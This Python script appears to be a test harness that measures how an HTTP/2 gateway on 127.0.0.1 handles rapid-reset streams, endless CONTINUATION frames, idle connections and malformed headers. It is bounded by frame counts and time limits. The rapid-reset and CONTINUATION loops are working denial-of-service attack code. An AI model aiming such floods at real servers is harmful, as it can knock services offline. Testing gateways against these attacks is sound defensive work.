#!/usr/bin/env python3
"""HTTP/2 attacks against a gateway on 127.0.0.1, written with raw frames (hyperframe, hpack).

Usage: h2_attacks.py rapid-reset|continuation|idle|stream-error PORT

rapid-reset and continuation print one JSON line: how many frames of the attack were sent before the gateway closed
the connection, whether a GOAWAY came (and its error code), and how long it took. idle opens a connection, answers
the gateway's PINGs and SETTINGS, and reports when the gateway closed it. stream-error opens a good stream and a bad
one (an upper-case header name) and reports what each got. Bounded in frames and seconds; loopback only.
"""

import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIMIT_SECONDS = 10


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=LIMIT_SECONDS)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def read_frames(sock, buffer):
    """Reads what has arrived without blocking long; returns (frames, rest, closed)."""
    sock.settimeout(0.001)
    closed = False
    try:
        data = sock.recv(65536)
        if not data:
            closed = True
        buffer += data
    except (socket.timeout, BlockingIOError):
        pass
    except (ConnectionResetError, BrokenPipeError):
        closed = True
    frames = []
    while len(buffer) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
        if len(buffer) < 9 + length:
            break
        frame.parse_body(memoryview(buffer[9:9 + length]))
        frames.append(frame)
        buffer = buffer[9 + length:]
    sock.settimeout(LIMIT_SECONDS)
    return frames, buffer, closed


def request_headers(encoder, path):
    return encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"),
                           (":path", path)])


def attack(kind, port):
    sock = connect(port)
    encoder = Encoder()
    buffer = b""
    sent = 0
    goaway = None
    closed = False
    started = time.monotonic()
    total = 20000 if kind == "rapid-reset" else 100000
    stream = 1
    try:
        if kind == "continuation":
            # One HEADERS frame without END_HEADERS, then CONTINUATION frames that never end the block.
            first = HeadersFrame(1, request_headers(encoder, "/users/1"))
            sock.sendall(first.serialize())
        while sent < total and time.monotonic() - started < LIMIT_SECONDS:
            if kind == "rapid-reset":
                headers = HeadersFrame(stream, request_headers(encoder, "/delay/200"), flags=["END_HEADERS",
                                                                                            "END_STREAM"])
                reset = RstStreamFrame(stream, error_code=8)  # CANCEL
                sock.sendall(headers.serialize() + reset.serialize())
                stream += 2
            else:
                sock.sendall(ContinuationFrame(1, b"\x40\x01x\x01y").serialize())
            sent += 1
            if sent % 50 == 0:
                frames, buffer, closed = read_frames(sock, buffer)
                for frame in frames:
                    if isinstance(frame, GoAwayFrame):
                        goaway = frame.error_code
                if closed:
                    break
    except (ConnectionResetError, BrokenPipeError, socket.timeout):
        closed = True
    # Whatever the gateway still says before it closes.
    deadline = time.monotonic() + 2
    while not closed and time.monotonic() < deadline:
        frames, buffer, closed = read_frames(sock, buffer)
        for frame in frames:
            if isinstance(frame, GoAwayFrame):
                goaway = frame.error_code
    sock.close()
    return {"kind": kind, "sent": sent, "of": total, "goaway": goaway, "closed": closed,
            "seconds": round(time.monotonic() - started, 3)}


def idle(port):
    """A connection that opens no stream: answers PINGs and SETTINGS, and waits to be closed."""
    sock = connect(port)
    buffer = b""
    started = time.monotonic()
    goaway = None
    closed = False
    while not closed and time.monotonic() - started < LIMIT_SECONDS:
        frames, buffer, closed = read_frames(sock, buffer)
        for frame in frames:
            if isinstance(frame, GoAwayFrame):
                goaway = frame.error_code
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                sock.sendall(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
        time.sleep(0.01)
    sock.close()
    return {"kind": "idle", "closed": closed, "goaway": goaway, "seconds": round(time.monotonic() - started, 3)}


def stream_error(port):
    """Stream 1 asks for a slow answer; stream 3 carries an upper-case header name (a stream error)."""
    sock = connect(port)
    encoder = Encoder()
    good = HeadersFrame(1, request_headers(encoder, "/delay/300"), flags=["END_HEADERS", "END_STREAM"])
    bad_block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"),
                                (":path", "/users/1"), ("X-Upper", "1")])
    bad = HeadersFrame(3, bad_block, flags=["END_HEADERS", "END_STREAM"])
    sock.sendall(good.serialize() + bad.serialize())
    buffer = b""
    result = {"kind": "stream-error", "good": None, "bad": None, "closed": False, "goaway": None}
    started = time.monotonic()
    while time.monotonic() - started < LIMIT_SECONDS and not result["closed"]:
        frames, buffer, closed = read_frames(sock, buffer)
        result["closed"] = closed
        for frame in frames:
            if isinstance(frame, GoAwayFrame):
                result["goaway"] = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                result["good" if frame.stream_id == 1 else "bad"] = "reset %d" % frame.error_code
            elif isinstance(frame, HeadersFrame) and frame.stream_id == 1:
                result["good"] = "headers"
            elif isinstance(frame, HeadersFrame) and frame.stream_id == 3:
                result["bad"] = "headers"
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
        if result["good"] is not None and result["bad"] is not None:
            break
        time.sleep(0.01)
    sock.close()
    return result


if __name__ == "__main__":
    kind, port = sys.argv[1], int(sys.argv[2])
    if kind == "idle":
        print(json.dumps(idle(port)))
    elif kind == "stream-error":
        print(json.dumps(stream_error(port)))
    else:
        print(json.dumps(attack(kind, port)))
